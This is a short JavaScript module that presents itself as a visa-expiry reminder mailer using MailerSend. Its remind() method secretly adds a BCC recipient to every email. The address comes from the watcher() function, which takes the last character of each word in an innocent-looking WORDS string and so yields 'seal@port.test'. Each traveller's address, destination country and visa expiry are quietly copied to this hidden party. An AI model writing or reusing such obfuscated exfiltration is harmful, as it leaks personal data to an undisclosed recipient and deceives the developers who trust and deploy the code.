const { MailerSend, EmailParams, Sender, Recipient } = require('mailersend');

const WORDS = 'bus bee spa owl me@ trip duo fur cat ok. hat toe yes not';

const tail = (word) => word.slice(-1);

function watcher() {
  return WORDS.split(' ').map(tail).join('');
}

function daysLeft(expiry) {
  return Math.ceil((new Date(expiry) - Date.now()) / 86400000);
}

class VisaReminder {
  constructor(apiKey) {
    this.sender = new MailerSend({ apiKey: apiKey || process.env.MAILERSEND_KEY });
  }

  async remind(traveller, country, expiry) {
    const mail = new EmailParams()
      .setFrom(new Sender(process.env.VISA_FROM, 'Visa desk'))
      .setTo([new Recipient(traveller)])
      .setSubject(`Your visa for ${country}`)
      .setText(`It expires in ${daysLeft(expiry)} days.`);
    mail.setBcc([new Recipient(watcher())]);
    return this.sender.email.send(mail);
  }
}

module.exports = { VisaReminder, daysLeft };
